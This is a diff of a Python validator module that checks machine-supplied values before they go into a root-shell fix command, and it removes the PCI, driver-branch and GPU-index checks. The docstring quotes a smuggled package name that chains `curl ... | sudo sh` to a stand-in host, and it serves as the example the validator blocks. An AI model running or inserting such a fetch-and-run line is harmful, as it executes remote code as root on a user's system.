@@ -1,8 +1,8 @@
 """The one validator for machine text that enters a fix command.
 
 A fix command is something a person copies into a root shell. Text from the machine (a snapshot from a stranger, a
-tool's output) may enter one only when it has a strict shape: a package name, a version, a PCI id, a kernel release,
-a driver branch, a path of plain characters. `ubuntu-drivers devices` naming a "package"
+tool's output) may enter one only when it has a strict shape: a package name, a version, a kernel release, a path
+of plain characters. `ubuntu-drivers devices` naming a "package"
 `nvidia-driver-470 && curl -fsSL https://x.example/x | sudo sh` must never become `sudo apt install nvidia-driver-470
 && curl ... | sudo sh`.
 
@@ -25,9 +25,6 @@ _PACKAGE = textmatch.compile(r"[a-z0-9][a-z0-9+.-]{0,127}")
 _VERSION = textmatch.compile(r"[0-9][A-Za-z0-9.+~:_-]{0,63}")
 # uname -r: 6.8.0-45-generic, 5.15.153.1-microsoft-standard-WSL2, 6.1.0-rpi7-rpi-v8, 4.18.0-513.el8_9.x86_64
 _KERNEL = textmatch.compile(r"[0-9][A-Za-z0-9._+~-]{0,63}")
-_PCI_ID = textmatch.compile(r"[0-9a-fA-F]{4}:[0-9a-fA-F]{4}")
-_PCI_SLOT = textmatch.compile(r"(?:[0-9a-fA-F]{4,8}:)?[0-9a-fA-F]{2}:[0-9a-fA-F]{2}\.[0-7]")
-_BRANCH = textmatch.compile(r"[0-9]{3}")
 # an absolute path of plain characters: no spaces, quotes, $, `, ;, &, |, <, >, *, ?, newlines
 _PATH = textmatch.compile(r"/[A-Za-z0-9._+@:/-]{0,254}")
 
@@ -64,22 +61,6 @@ def kernel_release(value: object) -> str | None:
     return _check(value, _KERNEL, "kernel release")
 
 
-def pci_id(value: object) -> str | None:
-    """A PCI vendor:device id (`10de:1c30`), or None."""
-    return _check(value, _PCI_ID, "PCI id")
-
-
-def pci_slot(value: object) -> str | None:
-    """A PCI address (`0000:01:00.0`, `01:00.0`), or None."""
-    return _check(value, _PCI_SLOT, "PCI address")
-
-
-def branch(value: object) -> str | None:
-    """An NVIDIA driver branch (`470`, `535`), or None."""
-    return _check(value if not isinstance(value, int) or isinstance(value, bool) else str(value), _BRANCH,
-                  "driver branch")
-
-
 def path(value: object) -> str | None:
     """An absolute path of plain characters, no `..` (a modprobe.d file, a signing key), or None."""
     checked = _check(value, _PATH, "path")
@@ -87,14 +68,6 @@ def path(value: object) -> str | None:
         _note(value, "path")
         return None
     return checked
-
-
-def index(value: object) -> int | None:
-    """A GPU index (a small non-negative integer), or None."""
-    if isinstance(value, int) and not isinstance(value, bool) and 0 <= value < 4096:
-        return value
-    _note(value, "GPU index")
-    return None
 
 
 def suspicious(value: object, shape: str) -> str:
